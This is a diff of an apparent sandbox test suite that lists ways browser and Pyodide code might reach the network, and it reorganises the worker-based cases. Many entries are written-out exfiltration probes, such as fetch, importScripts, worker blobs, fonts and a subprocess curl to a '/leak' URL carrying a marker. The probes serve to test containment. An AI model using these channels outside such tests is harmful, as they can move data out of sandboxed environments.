@@ -108,11 +108,6 @@ ANYWHERE: dict[str, str | tuple[str, Seen]] = {
       await import(`data:text/javascript,import ${encodeURIComponent(JSON.stringify(`${other}/leak?${mark}`))}`);
     """,
     "import() of JSON": "await import(`${own}/leak?${mark}`, { with: { type: 'json' } })",
-    "a worker within, from a blob": WITHIN % (CALLS, BLOB),
-    "a worker within, from data": WITHIN % (CALLS, DATA),
-    "a worker within, a module": WITHIN
-    % ("import '${other}/leak?${mark}'; postMessage(true)", BLOB + ", { type: 'module' }"),
-    "a worker within, importScripts": WITHIN % ("importScripts('${other}/leak?${mark}'); postMessage(true)", BLOB),
     "a font": "await new FontFace('f', `url('${other}/leak?${mark}')`).load()",
     "wasm by address": "await WebAssembly.compileStreaming(fetch(`${own}/leak?${mark}`))",
     "Cache Storage that fetches": "await (await caches.open('leak')).add(`${own}/leak?${mark}`)",
@@ -144,6 +139,15 @@ ANYWHERE: dict[str, str | tuple[str, Seen]] = {
     "cookieStore": ("await cookieStore.set(mark, '1')", "kept"),
 }
 
+# In a worker too; see Silent in suite.py.
+WORKERS: dict[str, str] = {
+    "a worker within, from a blob": WITHIN % (CALLS, BLOB),
+    "a worker within, from data": WITHIN % (CALLS, DATA),
+    "a worker within, a module": WITHIN
+    % ("import '${other}/leak?${mark}'; postMessage(true)", BLOB + ", { type: 'module' }"),
+    "a worker within, importScripts": WITHIN % ("importScripts('${other}/leak?${mark}'); postMessage(true)", BLOB),
+}
+
 # While they last, all else in the worker waits.
 WORKER_LATE: dict[str, str | tuple[str, Seen]] = {
     "XMLHttpRequest that waits": XHR_THAT_WAITS,
@@ -157,7 +161,7 @@ WORKER_LATE: dict[str, str | tuple[str, Seen]] = {
       importScripts(`data:text/javascript,${encodeURIComponent(`fetch("${other}/leak?${mark}")`)}`);
       await sleep(700);
     """,
-    # Firefox, when it refuses many at once, sometimes never answers the worker again.
+    **WORKERS,
     "a worker by address": WORKER_BY_ADDRESS,
 }
 WORKER: dict[str, str | tuple[str, Seen]] = {
@@ -479,12 +483,6 @@ await js.WebTransport.new(f"https://127.0.0.1:{port}/").ready
 import js
 js.importScripts(f"{own}/leak?{mark}")
 """,
-    "js.Worker from a blob": """
-import asyncio, js
-text = f"fetch('{other}/leak?{mark}')"
-js.Worker.new(js.URL.createObjectURL(js.Blob.new([text]))).onerror = lambda event: event.preventDefault()
-await asyncio.sleep(0.7)
-""",
     "js.FontFace": """
 import js
 await js.FontFace.new("f", f"url('{other}/leak?{mark}')").load()
@@ -603,7 +601,7 @@ import subprocess
 subprocess.run(["curl", f"{own}/leak?{mark}"])
 """,
 }
-# A socket is made of a WebSocket, of which Chromium opens one after another. The last: see WORKER_LATE.
+# A socket is made of a WebSocket, of which Chromium opens one after another.
 PYTHON_LATE: dict[str, str | tuple[str, Seen]] = {
     "a socket": (
         """
@@ -647,6 +645,12 @@ finally:
 """,
         "socket",
     ),
+    "js.Worker from a blob": """
+import asyncio, js
+text = f"fetch('{other}/leak?{mark}')"
+js.Worker.new(js.URL.createObjectURL(js.Blob.new([text]))).onerror = lambda event: event.preventDefault()
+await asyncio.sleep(1)
+""",
     "js.Worker by address": """
 import asyncio, js
 js.Worker.new(f"{own}/leak?{mark}").onerror = lambda event: event.preventDefault()
@@ -665,7 +669,7 @@ WAYS = (
     *_ways("script", WORKER_LATE, "late"),
     *_ways("python", PYTHON),
     *_ways("python", PYTHON_LATE, "late"),
-    *_ways("window", {**ANYWHERE, **WINDOW}),
+    *_ways("window", {**ANYWHERE, **WORKERS, **WINDOW}),
     *_ways("window", WINDOW_LATE, "late"),
     *_ways("window", {name: GOING % code.strip() for name, code in LEAVING.items()}, "frame"),
     *_ways("window", {name: GOING % code.strip() for name, code in TAKING.items()}, "page"),
